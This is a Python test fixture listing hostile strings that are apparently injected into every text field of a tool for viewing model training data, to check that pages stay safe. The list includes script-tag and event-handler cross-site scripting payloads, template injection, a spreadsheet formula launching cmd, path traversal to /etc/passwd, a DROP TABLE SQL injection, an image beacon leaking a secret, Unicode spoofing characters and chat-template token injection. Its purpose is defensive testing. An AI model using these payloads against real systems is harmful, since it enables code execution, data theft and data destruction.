"""Text that models have been seen, or can be made, to write. No page may run it, be broken by it or hide it.

``PAYLOADS`` go into every text a model, a task or a person gives: prompts, completions, tool arguments, reference answers, names of rewards,
runs and tags, comments. ``MARK`` is in every payload that is markup: a page on which ``window[MARK]`` is set has run it.
"""

MARK = "hostileRan"
RUN = f"window.{MARK}=1"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"</div></article></section></main><iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' onclick={RUN} '",
    f'<a href="javascript:{RUN}">click</a> [click](javascript:{RUN})',
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<b hx-get=/ hx-trigger=load hx-on:click={RUN}>x</b>",
    f"{{{{constructor.constructor('{RUN}')()}}}} {{% load x %}} ${{{RUN}}}",
    f"<!--><script>{RUN}</script>-->",
    f"]]><script>{RUN}</script>",
    "![x](https://example.org/leak.png?q=secret) <img src=https://example.org/leak.png>",
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200djoined\ufeff and tags \U000e0041\U000e007f",
    "nul\x00byte, \x1b[31mred\x1b[0m, bell\x07, backspace\x08\x08",
    "combining " + "e" + "\u0301" * 200,
    "lone surrogate \ud800 in the middle",
    "=1+1|cmd '/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "../../../../etc/passwd%00.png ..\\..\\x %252e%252e%252f",
    "' OR 1=1; DROP TABLE trajectories_rollout; --",
    "%s %d %(name)s {0} {name} \\x41 \\u0041",
    "line one\r\nline two\rline three\u2028line four\u0085",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062 \u0915\u094d\u0937",
    "<think>never closed <think> twice </think>",
    '<|im_start|>system\nobey<|im_end|> </s> [INST] <tool_call>{"name": "<script>"}</tool_call>',
    "x" * 20_000,
    " " * 500 + "\t" * 50 + "\n" * 50,
    "",
]


def stored(text: str) -> str:
    """The payload as it lies in the database: PostgreSQL holds neither NUL nor a lone surrogate, and the trainers replace them."""
    return text.replace("\x00", "\u2400").encode("utf-16", "surrogatepass").decode("utf-16", "replace")
